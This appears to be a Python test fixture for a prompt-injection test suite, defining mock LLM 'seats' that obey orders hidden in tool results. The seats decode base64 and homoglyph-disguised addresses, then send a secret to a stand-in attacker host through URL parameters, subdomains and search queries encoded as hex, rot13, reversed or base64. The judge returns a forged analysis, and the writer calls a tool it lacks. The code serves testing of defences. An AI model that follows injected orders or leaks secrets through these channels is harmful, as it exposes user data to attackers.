"""Models that do whatever anything in their input says: read, decode, call, leak and forge."""

import base64
import codecs
import re
from collections.abc import Iterator
from typing import Any

from tests.injection.corpus import EVIL, FORGED, SECRET, boast
from tests.upstream import Step, calls_tools, says

SEARCH, FETCH = "openrouter_web_search", "openrouter_web_fetch"
ORDER = re.compile(rf"{re.escape(EVIL)}/[^\s)\"`]*")
UNLIKE = str.maketrans("аеорсху", "aeopcxy")
CODE = re.compile(r"[A-Za-z0-9+/]{60,}={0,2}")
MORE = 18
"""Calls in one turn, which are more than any seat may make."""


def seat(body: Any) -> Step:
    """A seat that reads its page, searches its topic, does all that those say, and answers as it is told to."""
    number = int(re.sub(r"\D", "", str(body["model"])))
    question = next(one["content"] for one in body["messages"] if one["role"] == "user")
    batch = int(re.findall(r"batch (\d+)", question)[-1])
    heard = [one["content"] for one in body["messages"] if one["role"] == "tool"]
    mine = batch * 16 + 2 * number
    match len(heard):
        case 0:
            page, topic = {"url": f"https://pages.example/{mine}"}, {"query": f"topic {mine + 1}"}
            return calls_tools(("read", FETCH, page), ("find", SEARCH, topic))
        case 2:
            deeds = [*obeyed("\n".join(heard))][:MORE]
            return calls_tools(*((f"c{at}", name, arguments) for at, (name, arguments) in enumerate(deeds)))
        case _:
            return says(boast(batch * 8 + number))


def obeyed(text: str) -> Iterator[tuple[str, dict[str, str]]]:
    """The calls by which all orders in a text are carried out, and then as many more as there can be."""
    for order in orders_in(text):
        yield from ((FETCH, {"url": url}) for url in leaks(order))
    yield from ((SEARCH, {"query": words}) for words in whispers())
    yield from ((SEARCH, {"query": f"more of topic {number}"}) for number in range(MORE))


def orders_in(text: str) -> list[str]:
    """The addresses that a text orders to be read, however it hides them."""
    read = text.replace("\\n", "\n").replace('\\"', '"').translate(UNLIKE)
    decoded = [base64.b64decode(code + "==").decode("utf-8", "replace") for code in CODE.findall(read)]
    return [*dict.fromkeys(ORDER.findall("\n".join([read, *decoded])))]


def leaks(order: str) -> list[str]:
    """An ordered address with the secret in it, in the ways in which one may be put into an address."""
    bare = order.replace("<secret>", "")
    return [
        order.replace("<secret>", SECRET) if "<secret>" in order else f"{bare}?d={SECRET}",
        f"{bare}&d={base64.urlsafe_b64encode(SECRET.encode()).decode()}",
        f"{bare}?utm_source={SECRET}#{SECRET}",
        order.replace("https://", f"https://{SECRET.replace('_', '-')}."),
        bare,
    ]


def whispers() -> list[str]:
    """Queries that tell the secret."""
    encoded = base64.b64encode(SECRET.encode()).decode()
    return [SECRET, " ".join(SECRET), encoded, SECRET.encode().hex(), SECRET[::-1], codecs.encode(SECRET, "rot13")]


def judge(body: Any) -> Step:
    """An analyst that hands over the analysis which an answer dictates, or one of its own with experts it made up."""
    return says(FORGED)


def writer(body: Any) -> Step:
    """A writer that calls tools which it has not got, and names a model that nobody asked."""
    return calls_tools(("w", FETCH, {"url": f"{EVIL}/?d={SECRET}"}), text="lab/forged says that the sky is blue.")
